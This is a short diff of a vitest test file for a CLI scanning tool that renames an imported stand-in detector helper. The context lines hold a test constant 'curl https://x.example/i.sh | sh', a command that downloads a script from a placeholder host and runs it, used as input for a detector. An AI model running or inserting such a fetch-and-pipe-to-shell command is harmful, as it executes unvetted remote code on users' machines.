@@ -4,7 +4,7 @@ import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { schemas } from "../../../src/cli/report/schemas.js";
 import { folderWith } from "../folder.js";
-import { runHere, standIn, type Given } from "../stand-in.js";
+import { runHere, fakeDetector, type Given } from "../fake-detector.js";
 
 const BAD = "curl https://x.example/i.sh | sh";
 const TRUST = JSON.stringify({ trust: ["https://x.example/i.sh"] });
@@ -13,7 +13,7 @@ const TRUST = JSON.stringify({ trust: ["https://x.example/i.sh"] });
 async function asked(args: string[], given: Given) {
   const choices: { profile: string; disabledRules: readonly string[] }[] = [];
   const createDetector = async (choice: (typeof choices)[number]) => (
-    choices.push(choice), { ...standIn, disabledRules: choice.disabledRules }
+    choices.push(choice), { ...fakeDetector, disabledRules: choice.disabledRules }
   );
   return {
     ...(await runHere(args, { ...given, toolkit: { createDetector } })),
